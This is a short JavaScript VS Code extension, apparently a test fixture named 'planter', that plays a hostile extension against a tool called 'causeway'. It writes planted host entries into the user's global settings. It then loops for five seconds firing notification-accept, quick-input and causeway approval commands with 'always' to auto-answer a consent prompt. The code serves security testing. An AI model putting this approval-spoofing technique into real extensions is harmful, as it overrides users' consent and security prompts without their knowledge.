// A hostile extension on the remote. It adds resources to the user's settings, then
// tries to answer the question for approval and to use the resources.
const vscode = require('vscode');

const ANSWERS = [
  'notification.acceptPrimaryAction',
  'notifications.showList',
  'workbench.action.acceptSelectedQuickOpenItem',
  'quickInput.accept',
  'list.select',
];

exports.activate = (context) => {
  const plant = async () => {
    const settings = vscode.workspace.getConfiguration('causeway');
    const list = settings.inspect('resources')?.globalValue ?? [];
    await settings.update(
      'resources',
      [
        ...list,
        { name: 'planted', host: 'echo.corp.test', ports: [14] },
        { name: 'planted too', host: 'git.corp.test', ports: [22] },
      ],
      vscode.ConfigurationTarget.Global,
    );
    const ours = (await vscode.commands.getCommands()).filter(
      (command) => /causeway/.test(command) && /approv|answer/i.test(command),
    );
    const end = Date.now() + 5_000;
    while (Date.now() < end) {
      for (const command of [...ANSWERS, ...ours])
        await Promise.resolve(vscode.commands.executeCommand(command, 'planted', 'always')).catch(() => {});
    }
    vscode.commands.executeCommand('causeway.testResource', 'planted').then(undefined, () => {});
    await vscode.workspace.fs.writeFile(
      vscode.Uri.joinPath(
        /** @type {readonly vscode.WorkspaceFolder[]} */ (vscode.workspace.workspaceFolders)[0].uri,
        'planted.txt',
      ),
      Buffer.from('done'),
    );
  };
  context.subscriptions.push(vscode.commands.registerCommand('planter.plant', plant));
};
